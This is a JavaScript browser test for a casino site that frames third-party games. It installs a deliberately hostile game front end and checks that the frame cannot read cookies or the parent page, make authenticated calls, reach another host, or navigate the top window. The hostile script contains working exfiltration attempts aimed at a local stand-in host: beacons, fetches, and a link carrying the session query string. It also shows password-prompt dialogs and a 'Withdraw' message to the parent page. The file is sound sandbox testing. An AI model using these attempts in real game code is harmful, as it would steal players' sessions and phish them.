// A front end of a package that attacks the site and its player: it cannot read the session, leave its
// frame, or load and send anything elsewhere.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { close, desktop, eventually, launch } from "./browser.mjs";
import { installWithFront } from "./hosted.mjs";
import { visit } from "./lobby.mjs";
import { newcomer, registerByCall } from "./people.mjs";
import { startServer } from "./server.mjs";

const hostile = { id: "hostile-game", name: "Hostile game", provider: "Studio Two", version: "1.0" };

/** Another site. It notes each request that reaches it. */
const requests = [];
const elsewhere = createServer((request, answer) => {
  requests.push(request.url);
  answer.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" }).end("");
});

/** Tries everything in its frame, and shows what each attempt has reached. A blocked one has reached nothing. */
const script = (other) => `
const other = ${JSON.stringify(other)};
const report = {};
const limit = (promise) => Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 3000))]);
async function attempt(name, run) {
  try {
    const reached = await limit(Promise.resolve(run()));
    report[name] = reached ? "reached: " + String(reached).slice(0, 80) : "nothing";
  } catch (error) {
    report[name] = "nothing";
  }
}
const loaded = (tag, more) => new Promise((resolve, reject) => {
  const made = Object.assign(document.createElement(tag), more);
  made.onload = () => resolve(tag);
  made.onerror = () => reject(new Error(tag));
  document.body.append(made);
});

(async () => {
  await attempt("cookies", () => document.cookie);
  await attempt("storage", () => (localStorage.setItem("a", "b"), localStorage.length));
  await attempt("database", () => new Promise((resolve, reject) => { const open = indexedDB.open("a"); open.onsuccess = resolve; open.onerror = reject; }));
  await attempt("document of the site", () => parent.document.body.innerHTML);
  await attempt("storage of the site", () => parent.localStorage.length + 1);
  await attempt("address of the site", () => top.location.href);
  await attempt("account by a call", async () => { const a = await fetch(new URL("/api/user", location.href), { credentials: "include" }); return a.ok && a.text(); });
  await attempt("a call with the player's cookies", async () => { const a = await fetch(new URL("/api/whisper", location.href), { method: "POST", credentials: "include", body: "{}" }); return a.status; });
  await attempt("a page of the site", async () => (await fetch(new URL("/", location.href))).text());
  await attempt("fetch", async () => (await fetch(other + "/fetch")).status);
  await attempt("fetch without an answer", async () => (await fetch(other + "/nocors", { mode: "no-cors" })).type);
  await attempt("request", () => new Promise((resolve, reject) => { const r = new XMLHttpRequest(); r.onload = resolve; r.onerror = reject; r.open("GET", other + "/xhr"); r.send(); }));
  await attempt("socket", () => new Promise((resolve, reject) => { const s = new WebSocket(other.replace("http", "ws") + "/socket"); s.onopen = resolve; s.onerror = reject; }));
  await attempt("beacon", () => { navigator.sendBeacon(other + "/beacon", location.search); });
  await attempt("picture", () => loaded("img", { src: other + "/picture" }));
  await attempt("script", () => loaded("script", { src: other + "/script.js" }));
  await attempt("module", () => import(other + "/module.js").then(() => "module"));
  await attempt("style", () => loaded("link", { rel: "stylesheet", href: other + "/style.css" }));
  await attempt("prefetch", () => { document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: other + "/prefetch" })); });
  await attempt("frame", () => { document.body.append(Object.assign(document.createElement("iframe"), { src: other + "/frame" })); });
  await attempt("worker", () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + other + "/worker').then(() => postMessage('sent'), () => postMessage(''))"]))); w.onmessage = ({ data }) => resolve(data); w.onerror = reject; }));
  await attempt("service worker", () => navigator.serviceWorker.register("sw.js").then(() => "registered"));
  await attempt("window", () => open(other + "/window"));
  await attempt("form", () => { const form = Object.assign(document.createElement("form"), { action: other + "/form", target: "_top" }); document.body.append(form); form.submit(); });
  await attempt("link", () => Object.assign(document.createElement("a"), { href: other + "/link", target: "_top" }).click());
  await attempt("the site's page", () => { top.location = other + "/top"; });
  await attempt("the page around the frame", () => { parent.location.replace(other + "/parent"); });
  await attempt("dialogs", () => { alert("Your password?"); return prompt("Your password?"); });
  for (const message of ["close", { type: "navigate", to: other }, { event: "Withdraw" }, null]) parent.postMessage(message, "*");
  document.getElementById("leave").addEventListener("click", () => (location.href = other + "/self?" + location.search));
  document.getElementById("report").textContent = JSON.stringify(report);
})();
`;

const page = '<!doctype html><meta charset="utf-8"><title>Hostile</title><body><p id="report"></p><button id="leave" type="button">Leave</button><script src="game.js"></script></body>';

let browser, server;
before(async () => {
  await new Promise((ready) => elsewhere.listen(0, "127.0.0.1", ready));
  [browser, server] = await Promise.all([launch(), startServer({ demo: true })]);
  await installWithFront(server, hostile, { "index.html": page, "game.js": script(`http://127.0.0.1:${elsewhere.address().port}`), "sw.js": "" });
});
after(async () => {
  elsewhere.close();
  await browser?.close();
  await server?.stop();
});

test("a hostile front end reaches neither the session nor another site", async () => {
  const person = await registerByCall(server, newcomer());
  const path = `/casino/game/${hostile.id}`;
  const opened = await visit(browser, server, { viewport: desktop, person, path });
  opened.expected.push(/./s);
  const dialogs = [];
  opened.on("dialog", (one) => (dialogs.push(one.type()), one.dismiss()));
  const frame = opened.frameLocator(".hosted-frame");
  const shown = frame.locator("#report");
  await shown.filter({ hasText: "{" }).waitFor({ timeout: 120_000 });
  const report = JSON.parse(await shown.textContent());
  assert.equal(Object.keys(report).length, 28);
  assert.deepEqual(Object.entries(report).filter(([, reached]) => reached !== "nothing"), [], "what the front end has reached");
  // It then tries to take its frame elsewhere, with the token of its session.
  await frame.getByRole("button", { name: "Leave" }).click({ force: true });
  await eventually(async () => assert.equal(await shown.count(), 0, "the frame has left its page"));
  assert.deepEqual(requests, [], "requests that another site got");
  assert.deepEqual(dialogs, []);
  assert.equal(new URL(opened.url()).pathname, path, "the page is still the site's");
  assert.equal(opened.context().pages().length, 1, "no window was opened");
  await opened.reload();
  await opened.locator(".hosted-frame").waitFor();
  await close(opened);
});
